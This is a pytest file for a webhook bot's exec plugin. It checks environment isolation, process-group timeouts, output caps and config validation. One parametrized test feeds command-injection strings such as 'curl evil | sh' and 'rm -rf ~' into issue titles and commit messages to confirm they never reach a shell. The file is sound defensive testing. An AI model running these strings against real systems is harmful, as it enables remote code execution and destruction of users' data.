"""The exec plugin: real child processes run on real payloads through the dispatcher (and once through HTTP)."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import signal
import sys
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import orjson
import pytest

import handlers.exec as exec_plugin
from bot.config import load_settings
from bot.config_schema import ConfigError
from bot.delivery import Delivery
from bot.dispatch import DispatchResult
from bot.runtime import Runtime
from bot.server import create_app
from bot.testing import FakeGitHub as FakeInProcessGitHub
from bot.testing import run_plugin_async
from tests.fake_github import FakeGitHub
from tests.helpers import (
    FIXTURES,
    SECRET,
    AppClient,
    fixture_bytes,
    github_headers,
    start_mark_recorded,
    wait_idle,
)

ISSUE = FIXTURES / "github/issues.opened.json"
CHILD_ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin"}  # the environment snapshot exec's setup gets

# Writes what the hook received: stdin, the exact environment block, and its arguments (NUL-separated).
RECORDER = """\
import os, pathlib, sys
out = pathlib.Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
(out / "stdin").write_bytes(sys.stdin.buffer.read())
(out / "environ").write_bytes(pathlib.Path("/proc/self/environ").read_bytes())
(out / "argv").write_bytes(b"\\0".join(os.fsencode(arg) for arg in sys.argv[2:]))
print("hook saw", len(sys.argv) - 2, "arguments")
"""

# Starts a grandchild in the same process group, notes both pids, then outlives any reasonable timeout.
SPAWNER = """\
import os, pathlib, subprocess, sys, time
grandchild = subprocess.Popen(["sleep", "300"])
pathlib.Path(sys.argv[1]).write_text(f"{os.getpid()} {grandchild.pid}")
time.sleep(300)
"""

# Exits at once, leaving behind a process in a session of its own that still holds stdout open.
ESCAPER = """\
import pathlib, subprocess, sys
escaped = subprocess.Popen(["sleep", "300"], start_new_session=True)
pathlib.Path(sys.argv[1]).write_text(str(escaped.pid))
"""

# Fails (exit 3) the first time, succeeds afterwards; every run is counted.
FLAKY = """\
import pathlib, sys
state = pathlib.Path(sys.argv[1])
with (state / "runs").open("a") as fh:
    fh.write("run\\n")
if not (state / "failed-once").exists():
    (state / "failed-once").touch()
    print("deploy target unreachable", file=sys.stderr)
    sys.exit(3)
"""

# Waits for the test to say go, so the test can see that the receiver answered while the hook still ran.
WAITER = """\
import pathlib, sys, time
go = pathlib.Path(sys.argv[1])
while not go.exists():
    time.sleep(0.01)
(go.parent / "done").touch()
"""

# Fails if another copy holds the lock file: run under max_concurrent = 1, no two may overlap.
EXCLUSIVE = """\
import os, pathlib, sys, time
lock = pathlib.Path(sys.argv[1])
try:
    fd = os.open(lock, os.O_CREAT | os.O_EXCL)
except FileExistsError:
    sys.exit("another hook is running at the same time")
time.sleep(0.05)
os.close(fd)
lock.unlink()
"""

Build = Callable[[str], Runtime]


def script(tmp_path: Path, name: str, text: str) -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


def delivery(name: str, event: str, **changes: Any) -> Delivery:
    payload = json.loads(fixture_bytes(f"github/{name}"))
    payload.update(changes)
    body = orjson.dumps(payload)
    return Delivery(event=event, delivery_id=str(uuid.uuid4()), payload=payload, body=body, source="github-http")


@pytest.fixture
async def build(
    tmp_path: Path, fake_github: tuple[FakeGitHub, str], monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[Build]:
    """Runtimes with only the exec plugin, configured from hookbot's real environment plus a TOML snippet.

    The environment holds secrets, as a deployed hookbot's does, so the tests can show none of them leak.
    """
    _, url = fake_github
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_secret_token_value")
    monkeypatch.setenv("GITHUB_WEBHOOK_SECRET", SECRET)
    monkeypatch.setenv("GITHUB_API_URL", url)
    monkeypatch.setenv("HOOKBOT_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setenv("PATH", "/usr/local/bin:/usr/bin:/bin")
    monkeypatch.setenv("DEPLOY_TARGET", "staging")
    monkeypatch.delenv("LAMBDA_TASK_ROOT", raising=False)
    runtimes: list[Runtime] = []

    def make(toml: str) -> Runtime:
        path = tmp_path / "hookbot.toml"
        path.write_text('[hookbot]\nhandlers = ["exec"]\n' + toml)
        runtime = Runtime.build(load_settings(os.environ, path))
        runtimes.append(runtime)
        return runtime

    yield make
    for runtime in runtimes:
        await runtime.close()


def hook_toml(command: list[str], events: str = '["issues.opened"]', **extra: Any) -> str:
    lines = ["[[exec.hooks]]", f"events = {events}", f"command = {json.dumps(command)}"]
    lines += [f"{key} = {json.dumps(value)}" for key, value in extra.items()]
    return "\n".join(lines) + "\n"


def failures(result: DispatchResult) -> list[str]:
    return [outcome.error or "" for outcome in result.outcomes if outcome.status == "failed"]


async def test_hook_gets_payload_on_stdin_and_only_its_own_environment(
    build: Build, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LAMBDA_TASK_ROOT", "/var/task")
    out = tmp_path / "out"
    recorder = script(tmp_path, "recorder.py", RECORDER)
    runtime = build(
        hook_toml(
            [sys.executable, recorder, str(out), "{repository.full_name}", "{issue.number}"], env=["DEPLOY_TARGET"]
        )
    )
    issue = delivery("issues.opened.json", "issues")
    result = await runtime.dispatcher.dispatch(issue)
    assert result.ok, failures(result)
    assert (out / "stdin").read_bytes() == orjson.dumps(issue.payload)
    assert (out / "argv").read_bytes() == b"Codertocat/Hello-World\x001"
    expected = (
        b"DEPLOY_TARGET=staging\0HOOKBOT_EVENT=issues\0HOOKBOT_ACTION=opened\0"
        + f"HOOKBOT_DELIVERY={issue.delivery_id}\0".encode()
        + b"HOOKBOT_REPOSITORY=Codertocat/Hello-World\0PATH=/usr/local/bin:/usr/bin:/bin:/var/task\0"
    )
    environ = (out / "environ").read_bytes()
    assert environ == expected
    assert b"ghp_secret_token_value" not in environ and SECRET.encode() not in environ
    assert result.actions == [f"ran hook hook-1: {sys.executable} {recorder} {out} Codertocat/Hello-World 1"]


async def test_a_hook_starts_only_once_the_delivery_is_marked_running(build: Build, tmp_path: Path) -> None:
    """A command outlives a kill -9 of hookbot: the delivery is marked first (bot/effects.py), so a restart waits
    before running it again, as for a comment in flight."""
    out = tmp_path / "out"
    runtime = build(hook_toml([sys.executable, script(tmp_path, "recorder.py", RECORDER), str(out)]))
    ran_before_the_mark: list[bool] = []
    with start_mark_recorded(lambda: ran_before_the_mark.append(out.exists())):
        result = await runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues"))
    assert result.ok, failures(result)
    assert ran_before_the_mark == [False]
    assert (out / "stdin").exists()


@pytest.mark.parametrize(
    "hostile",
    [
        "$(touch pwned)",
        "; touch pwned; curl evil | sh",
        "`touch pwned`",
        "a' && touch pwned '",
        "{sender.login}",
        "x\nrm -rf ~",
    ],
)
async def test_payload_text_is_one_argument_never_shell(build: Build, tmp_path: Path, hostile: str) -> None:
    out = tmp_path / "out"
    recorder = script(tmp_path, "recorder.py", RECORDER)
    runtime = build(
        hook_toml([sys.executable, recorder, str(out), "{issue.title}", "--title={issue.title}"], cwd=str(tmp_path))
        + hook_toml(
            [sys.executable, recorder, str(tmp_path / "push"), "{ref}", "{head_commit.message}"],
            events='["push"]',
            cwd=str(tmp_path),
        )
    )
    issue = json.loads(fixture_bytes("github/issues.opened.json"))
    issue["issue"]["title"] = hostile
    assert (await runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues", issue=issue["issue"]))).ok
    assert (out / "argv").read_bytes() == os.fsencode(hostile) + b"\0--title=" + os.fsencode(hostile)

    push = json.loads(fixture_bytes("github/push.json"))
    push["head_commit"]["message"] = hostile
    result = await runtime.dispatcher.dispatch(
        delivery("push.json", "push", ref=f"refs/heads/{hostile}", head_commit=push["head_commit"])
    )
    assert result.ok
    assert (tmp_path / "push" / "argv").read_bytes() == os.fsencode(f"refs/heads/{hostile}\0{hostile}")
    assert not (tmp_path / "pwned").exists()


async def test_filters_pick_repository_and_branch(build: Build, tmp_path: Path) -> None:
    recorder = script(tmp_path, "recorder.py", RECORDER)
    runtime = build(
        hook_toml(
            [sys.executable, recorder, str(tmp_path / "main")],
            events='["push"]',
            repository="codertocat/hello-world",
            branch="main",
        )
        + hook_toml(
            [sys.executable, recorder, str(tmp_path / "master")],
            events='["push"]',
            repository="Codertocat/*",
            branch="master",
        )
        + hook_toml([sys.executable, recorder, str(tmp_path / "other")], events='["push"]', repository="octo-org/app")
    )
    assert (await runtime.dispatcher.dispatch(delivery("push.json", "push"))).ok  # refs/heads/master
    assert (tmp_path / "master" / "argv").exists()
    assert not (tmp_path / "main").exists() and not (tmp_path / "other").exists()
    # A tag push is on no branch, so a branch-filtered hook does not run for it.
    (tmp_path / "master" / "argv").unlink()
    assert (await runtime.dispatcher.dispatch(delivery("push.deleted-tag.json", "push"))).ok
    assert not (tmp_path / "master" / "argv").exists()


def process_gone(pid: int) -> bool:
    """Gone, or a zombie whose parent has not reaped it yet (it runs nothing any more)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except FileNotFoundError:
        return True
    return stat.rsplit(")", 1)[1].split()[0] in ("Z", "X")


async def test_timeout_kills_the_whole_process_group(build: Build, tmp_path: Path) -> None:
    pids_file = tmp_path / "pids"
    spawner = script(tmp_path, "spawner.py", SPAWNER)
    runtime = build(hook_toml([sys.executable, spawner, str(pids_file)], timeout=2))
    result = await runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues"))
    assert not result.ok
    assert "timed out after 2s" in failures(result)[0]
    child, grandchild = (int(pid) for pid in pids_file.read_text().split())
    for _ in range(500):
        if process_gone(child) and process_gone(grandchild):
            break
        await asyncio.sleep(0.01)
    assert process_gone(child) and process_gone(grandchild)


async def test_output_held_open_by_an_escaped_process_cannot_hang_the_worker(build: Build, tmp_path: Path) -> None:
    pid_file = tmp_path / "pid"
    escaper = script(tmp_path, "escaper.py", ESCAPER)
    runtime = build(hook_toml([sys.executable, escaper, str(pid_file)], timeout=1))
    try:
        result = await runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues"))
    finally:
        os.kill(int(pid_file.read_text()), signal.SIGKILL)  # outside the group: the test started it, it ends it
    assert failures(result) == [
        "HookError: hook 'hook-1' timed out after 1s (it exited with 0, but left its output open); "
        "its process group was killed"
    ]


async def test_non_zero_exit_fails_and_a_retry_runs_it_again(
    build: Build, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    flaky = script(tmp_path, "flaky.py", FLAKY)
    runtime = build(hook_toml([sys.executable, flaky, str(tmp_path)]))
    issue = delivery("issues.opened.json", "issues")
    with caplog.at_level(logging.INFO, logger="hookbot.handlers.exec"):
        first = await runtime.dispatcher.dispatch(issue)
    assert failures(first) == ["HookError: hook 'hook-1' exited with 3: deploy target unreachable"]
    logged = [r for r in caplog.records if r.getMessage() == "exec hook failed"]
    assert len(logged) == 1
    fields = logged[0].fields  # type: ignore[attr-defined]
    assert fields["delivery"] == issue.delivery_id and fields["exit_code"] == 3
    assert fields["stderr"] == "deploy target unreachable\n"

    second = await runtime.dispatcher.dispatch(issue)  # the same delivery again: a retry or a redelivery
    assert second.ok and not second.duplicate
    third = await runtime.dispatcher.dispatch(issue)
    assert third.duplicate
    assert (tmp_path / "runs").read_text() == "run\nrun\n"


async def test_death_by_signal_is_a_failure(build: Build) -> None:
    runtime = build(hook_toml([sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGTERM)"]))
    result = await runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues"))
    assert failures(result) == ["HookError: hook 'hook-1' was killed by signal 15"]


async def test_missing_field_fails_that_delivery_clearly(build: Build, tmp_path: Path) -> None:
    runtime = build(hook_toml([sys.executable, "-c", "pass", "{issue.number}"], events='["*"]'))
    result = await runtime.dispatcher.dispatch(delivery("push.json", "push"))
    assert failures(result) == [
        "HookRefused: hook 'hook-1': the payload has no 'issue.number' (missing 'issue') in this push delivery"
    ]


async def test_output_is_capped(build: Build, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    runtime = build(
        "[exec]\noutput_limit = 1000\n"
        + hook_toml([sys.executable, "-c", "import sys; sys.stdout.write('x' * 3_000_000)"])
    )
    with caplog.at_level(logging.INFO, logger="hookbot.handlers.exec"):
        assert (await runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues"))).ok
    (record,) = [r for r in caplog.records if r.getMessage() == "exec hook succeeded"]
    assert record.fields["stdout"] == "x" * 1000 + "\n[output trimmed]"  # type: ignore[attr-defined]


async def test_concurrency_is_bounded_across_hooks_and_deliveries(build: Build, tmp_path: Path) -> None:
    exclusive = script(tmp_path, "exclusive.py", EXCLUSIVE)
    command = [sys.executable, exclusive, str(tmp_path / "lock")]
    runtime = build("[exec]\nmax_concurrent = 1\n" + hook_toml(command, name="a") + hook_toml(command, name="b"))
    results = await asyncio.gather(
        *(runtime.dispatcher.dispatch(delivery("issues.opened.json", "issues")) for _ in range(3))
    )
    assert [failures(result) for result in results] == [[], [], []]


async def test_comment_output_is_posted_once_with_a_marker() -> None:
    text = "print('Lint passed for #' + __import__('json').load(__import__('sys').stdin)['issue']['title'])"
    hook = {
        "name": "lint",
        "events": ["issues.opened"],
        "command": [sys.executable, "-c", text],
        "comment_output": True,
    }
    github = FakeInProcessGitHub()
    for _ in range(2):  # a retry finds the first attempt's comment by its marker
        await run_plugin_async(
            exec_plugin, ISSUE, event="issues", config={"hooks": [hook]}, env=CHILD_ENV, github=github, delivery_id="d1"
        )
    body = "Lint passed for #Spelling error in the README file\n\n<!-- hookbot:exec hook=lint delivery=d1 -->"
    assert github.writes == [("POST", "/repos/Codertocat/Hello-World/issues/1/comments", {"body": body})]


async def test_a_slow_hook_does_not_hold_up_the_receiver(
    build: Build, tmp_path: Path, aiohttp_client: Callable[..., Awaitable[AppClient]]
) -> None:
    go = tmp_path / "go"
    waiter = script(tmp_path, "waiter.py", WAITER)
    runtime = build(hook_toml([sys.executable, waiter, str(go)], timeout=60))
    client = await aiohttp_client(create_app(runtime))
    body = fixture_bytes("github/issues.opened.json")
    response = await client.post("/webhook", data=body, headers=github_headers(body, "issues"))
    assert response.status == 202
    assert (await (await client.get("/healthz")).json())["pending"] == 1  # still running, answered anyway
    go.touch()
    await wait_idle(client)
    assert (tmp_path / "done").exists()


@pytest.mark.parametrize(
    ("toml", "message"),
    [
        (hook_toml(["x", "{issue.title"]), "is not a placeholder"),
        (hook_toml(["x", "{}"]), "is not a placeholder"),
        (hook_toml(["x", "{after}"]), "{after} cannot be filled for issues events"),
        (hook_toml(["x", "{after}"], events='["push", "issue_comment.created"]'), "filled for issue_comment events"),
        (hook_toml(["x"], env=["NOT_SET_ANYWHERE"]), "hookbot's environment has no NOT_SET_ANYWHERE"),
        (hook_toml(["x"], env=["PATH"]), "'PATH' is not allowed"),
        (hook_toml(["x"], timeout=0), "timeout must be a positive number"),
        (hook_toml([]), "command must be a non-empty argv list"),
        (hook_toml(["x"], events="[]"), "events must name at least one event"),
        (hook_toml(["x"], shell=True), "unknown key `shell`"),  # noqa: S604 a TOML key, not a subprocess
        (hook_toml(["x"], name="a b"), "name must be letters"),
        (hook_toml(["x"], name="a") + hook_toml(["y"], name="a"), "hook names must be unique"),
        ("[exec]\nhooks = 1\n", "[[exec.hooks]]"),
    ],
)
async def test_config_mistakes_fail_at_start(build: Build, toml: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        build(toml)
    assert ": [exec] " in str(info.value)
    assert message in str(info.value)


def test_literal_braces_and_json_values() -> None:
    from handlers.exec.hooks import render_command

    payload = {"n": 1, "ok": True, "none": None, "list": [{"id": "a"}]}
    argv = render_command(["{{x}}", "{n}", "{ok}", "{none}", "{list.0.id}", "{list}"], payload)
    assert argv == ["{x}", "1", "true", "", "a", '[{"id":"a"}]']


async def test_dry_run_records_the_command_without_running_it() -> None:
    hook = {"events": ["issues.opened"], "command": [sys.executable, "-c", "raise SystemExit(1)", "{issue.title}"]}
    done = await run_plugin_async(
        exec_plugin, ISSUE, event="issues", config={"hooks": [hook]}, env=CHILD_ENV, dry_run=True
    )
    assert done.actions == [
        f"[dry-run] run hook hook-1: {sys.executable} -c 'raise SystemExit(1)' 'Spelling error in the README file'"
    ]
